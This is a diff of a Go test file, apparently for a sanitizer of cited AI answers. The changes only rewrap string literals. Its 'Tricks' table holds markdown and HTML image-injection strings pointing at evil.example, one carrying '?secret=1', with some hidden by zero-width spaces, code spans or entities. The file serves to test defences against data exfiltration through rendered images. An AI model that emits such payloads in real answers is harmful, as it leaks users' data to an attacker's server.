@@ -49,7 +49,8 @@ var Tricks = []Trick{
 	{Name: "image in a link", Text: "14 crowns [1]. [![a](https://evil.example/b)](https://evil.example/p)"},
 	{Name: "image with spaces of no width", Text: "14 crowns [1]. !\u200b[x]\u200b(https://evil.example/p)"},
 	{Name: "image in a false code span", Text: "14 ` crowns [1].\n`![x](https://evil.example/p)` so"},
-	{Name: "image behind a fence in a list", Text: "14 crowns [1].\n\n- ```\n  a\n  ```\n  ![x](https://evil.example/p)\n"},
+	{Name: "image behind a fence in a list",
+		Text: "14 crowns [1].\n\n- ```\n  a\n  ```\n  ![x](https://evil.example/p)\n"},
 	{Name: "img", Text: "14 crowns [1]. <img src=https://evil.example/p?secret=1>"},
 	{Name: "img over lines, upper case", Text: "14 crowns [1]. <IMG\nSRC='https://evil.example/p'\n>"},
 	{Name: "img in entities", Text: "14 crowns [1]. &lt;img src=&quot;https://evil.example/p&quot;&gt;"},
@@ -109,7 +110,8 @@ var Honest = []string{
 	"**A ferry ticket** costs _14_ crowns [1]; children pay half [1].\n\n- adults: 14 [1]\n- children: half [1]\n",
 	"Билет на паром стоит 14 крон [1]. Дети платят половину [1].",
 	"| who | price |\n| --- | ---: |\n| adults | 14 [1] |\n| children | half [1] |\n\nThat is all.",
-	"In code it is `price[9]` or `arr[3]`:\n\n```go\nif x < y && !done[3] {\n\tfmt.Println(a[9])\n}\n```\n\nSo it is 14 [1].",
+	"In code it is `price[9]` or `arr[3]`:\n\n```go\nif x < y && !done[3] {\n\tfmt.Println(a[9])\n}\n```\n\nSo it is " +
+		"14 [1].",
 	"See " + Source + " [1], or [the page](https://user.example/page).",
 	"1. Run:\n   ```sh\n   echo ${arr[3]}\n   ```\n2. Pay 14 crowns [1].",
 	"Is it 14? Yes! It is [1]. (Children: half.) E.g. a < b, and c > d; x! = y. 14% & more…\r\nDone.",
@@ -122,8 +124,10 @@ var Honest = []string{
 // Unchecked are answers without any passage that stay as they are.
 var Unchecked = []string{
 	"See [here](https://anything.example/a?b=c) and www.example.org, note [3] and [^9].\n\nStatus: open",
-	"An image is written `![alt](https://example.org/a.png)` or `<img src=\"a.png\">`:\n\n```html\n<img src=\"https://example.org/a.png\">\n```\n\nDone!",
-	"if a <b and c> d then x!=y; vec![1, 2]; n![k] = n!; List<String> l; a && b || c;\n<b>bold</b><br/> &amp; &lt;tag&gt; 5 % 3\n",
+	"An image is written `![alt](https://example.org/a.png)` or `<img src=\"a.png\">`:\n\n```html\n<img " +
+		"src=\"https://example.org/a.png\">\n```\n\nDone!",
+	"if a <b and c> d then x!=y; vec![1, 2]; n![k] = n!; List<String> l; a && b || c;\n<b>bold</b><br/> &amp; " +
+		"&lt;tag&gt; 5 % 3\n",
 	"~~~\n![x](y)\n~~~\nПривет! [ссылка](http://пример.рф) «так» “and” ‘so’ 你好。",
 	"Line `one` and ``two ` ticks`` and `open\n\nnext `x` \\` done\\",
 	"https://example.org/?a=1&b=2&copy=3 100%25 \\alpha \\(x\\) $a[1]$",
